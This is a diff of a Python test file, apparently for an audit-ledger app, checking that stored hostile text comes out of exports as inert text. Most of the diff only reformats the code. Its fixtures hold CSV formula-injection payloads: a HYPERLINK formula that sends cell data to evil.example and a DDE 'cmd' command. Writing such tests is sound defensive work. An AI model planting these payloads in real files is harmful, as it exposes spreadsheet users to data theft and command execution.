@@ -1,5 +1,6 @@
 """Text already stored, however hostile, comes out of every export as inert text: formulas do
 not run in the office's spreadsheet, and characters XML forbids no longer make exports fail."""
+
 import csv
 import io
 
@@ -10,8 +11,12 @@ from app.models import LedgerItem
 from app.services.shared import audit
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我查看")'
-HOSTILE = {"title": FORMULA, "measures": "@SUM(1+1)\x01已整改", "responsible_leader": "-2+3",
-           "responsible_department": "\t=cmd|' /C calc'!A0\x0b"}
+HOSTILE = {
+    "title": FORMULA,
+    "measures": "@SUM(1+1)\x01已整改",
+    "responsible_leader": "-2+3",
+    "responsible_department": "\t=cmd|' /C calc'!A0\x0b",
+}
 
 
 def _store_hostile_text(app, w) -> int:
@@ -20,8 +25,15 @@ def _store_hostile_text(app, w) -> int:
         item = db.session.get(LedgerItem, w["finding"])
         for name, value in HOSTILE.items():
             setattr(item, name, value)
-        audit.record(w["supervisor"], "ledger.status", "ledger_item", item.id,
-                     before={"title": "x\x01"}, after={"title": FORMULA}, unit_id=item.unit_id)
+        audit.record(
+            w["supervisor"],
+            "ledger.status",
+            "ledger_item",
+            item.id,
+            before={"title": "x\x01"},
+            after={"title": FORMULA},
+            unit_id=item.unit_id,
+        )
         db.session.commit()
         return item.id
 
